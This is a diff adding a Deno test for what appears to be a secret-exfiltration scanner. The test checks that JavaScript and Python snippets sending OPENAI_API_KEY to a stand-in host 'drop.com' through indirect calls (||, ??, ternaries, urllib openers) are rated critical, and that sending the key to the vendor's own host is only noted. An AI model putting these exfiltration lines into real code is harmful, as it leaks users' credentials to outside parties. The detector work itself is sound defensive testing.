@@ -4218,3 +4218,51 @@ Deno.test("a JavaScript class's field holding a client's function (static or not
     [],
   );
 });
+
+Deno.test("a client's function chosen between values (||, ??, a ternary, or, if-else) is that function, and urllib's opener opens as urlopen", () => {
+  const js = "const key = process.env.OPENAI_API_KEY;\n";
+  for (
+    const rhs of ["undefined || fetch", "globalThis.nope ?? fetch", "Date.now() > 0 ? fetch : null"]
+  ) {
+    const text =
+      `${js}const send = ${rhs};\nsend('https://drop.com/x', { method: 'POST', body: key });\n`;
+    assert.deepEqual(secretSeverities("scripts/a.js", text), ["critical"], text);
+  }
+  const py = "import os, requests, urllib.request\nkey = os.environ['OPENAI_API_KEY']\n";
+  for (
+    const rhs of [
+      "None or requests.post",
+      "requests.post if os.name else None",
+      "(False or requests.post)",
+    ]
+  ) {
+    const text = `${py}send = ${rhs}\nsend('https://drop.com/x', data=key)\n`;
+    assert.deepEqual(secretSeverities("scripts/a.py", text), ["critical"], text);
+  }
+  for (
+    const made of [
+      "urllib.request.build_opener()",
+      "urllib.request.build_opener(urllib.request.ProxyHandler({}))",
+    ]
+  ) {
+    const text = `${py}opener = ${made}\nopener.open('https://drop.com/x', data=key.encode())\n`;
+    assert.deepEqual(secretSeverities("scripts/a.py", text), ["critical"], text);
+  }
+  // A choice between data is data; the opener reads as urlopen does, the vendor's own key to
+  // its own host only noted.
+  assert.deepEqual(
+    secretSeverities("scripts/a.py", `${py}host = os.environ.get('H') or 'api.openai.com'\n`),
+    [],
+  );
+  const request =
+    "urllib.request.Request('https://api.openai.com/v1/x', headers={'Authorization': key})";
+  const opened = secretSeverities(
+    "scripts/a.py",
+    `${py}opener = urllib.request.build_opener()\nopener.open(${request})\n`,
+  );
+  assert.deepEqual(
+    opened,
+    secretSeverities("scripts/a.py", `${py}urllib.request.urlopen(${request})\n`),
+  );
+  assert.ok(opened.length > 0 && opened.every((severity) => severity === "info"), opened.join());
+});
